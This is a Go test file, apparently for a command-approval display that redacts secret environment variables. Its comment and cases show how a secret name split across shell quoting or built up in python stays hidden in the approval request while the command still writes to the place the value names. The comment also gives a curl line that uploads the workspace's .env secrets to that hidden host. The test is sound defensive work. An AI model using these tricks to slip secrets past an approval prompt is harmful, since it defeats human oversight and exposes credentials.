package domain

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestAttack191_SecretReadByASplitName (review 191): the forty-fourth
// review's fix (namedAgain) shows a secret-named variable's value when its
// name appears again in the text other than as an expansion, and
// exposedVars when the text expands it ($NAME, ${NAME}). Both read the
// name as one run of identifier bytes. A nested shell or a program gets
// the name built of pieces that neither joins:
//
//	export API_TOKEN=…; sh -c 'echo x >> $API'_TOKEN
//	export API_TOKEN=…; sh -c 'echo x >> ${API'_TOKEN}
//	export API_TOKEN=…; python3 -c 'from os import environ as E; open(E["API_"+"TOKEN"], "a").write("x")'
//
// The outer shell joins '…$API' and _TOKEN into the inner script's
// $API_TOKEN (and '${API'_TOKEN} into ${API_TOKEN}); python joins the
// key. Each is shown as API_TOKEN=[redacted], and each writes to (or, with
// curl -T .env https://$API'_TOKEN/, sends the workspace's secrets to)
// the place the hidden value names. Premise checked with the real sh
// (dash) and python3.
//
// Control: the same nested shell expanding the name whole
// (sh -c 'echo x >> $API_TOKEN') shows the value; a credential-only use
// keeps it hidden.
func TestAttack191_SecretReadByASplitName(t *testing.T) {
	const v = "wr1tesHereQ9x7Lm"
	const set = "export API_TOKEN=" + v + "; "
	runs := func(prog, cmd string) {
		t.Helper()
		if _, err := exec.LookPath(prog); err != nil {
			return
		}
		dir := t.TempDir()
		x := exec.Command("/bin/sh", "-c", cmd)
		x.Dir = dir
		if out, err := x.CombinedOutput(); err != nil {
			t.Fatalf("premise: %s: %v %s", cmd, err, out)
		}
		if _, err := os.Stat(filepath.Join(dir, v)); err != nil {
			t.Fatalf("premise: the command did not write to the variable's value: %s", cmd)
		}
	}
	// Controls.
	whole := set + `sh -c 'echo x >> $API_TOKEN'`
	runs("sh", whole)
	if s := attack42ShownBash(t, whole); !strings.Contains(s, v) {
		t.Fatalf("control: a nested shell's whole $API_TOKEN does not show the value:\n%s", s)
	}
	cred := "API_TOKEN=" + v + "; curl -H \"Authorization: Bearer $API_TOKEN\" https://api.example/"
	if s := attack42ShownBash(t, cred); strings.Contains(s, v) {
		t.Fatalf("control: a credential-only use shows the secret:\n%s", s)
	}
	cases := []struct{ prog, cmd string }{
		{"sh", set + `sh -c 'echo x >> $API'_TOKEN`},
		{"sh", set + `sh -c 'echo x >> ${API'_TOKEN}`},
		{"python3", set + `python3 -c 'from os import environ as E; open(E["API_"+"TOKEN"], "a").write("x")'`},
	}
	for _, c := range cases {
		runs(c.prog, c.cmd)
		if s := attack42ShownBash(t, c.cmd); !strings.Contains(s, v) {
			t.Errorf("%s\nwrites to %s, and the approval request hides it:\n%s", c.cmd, v, s)
		}
	}
}
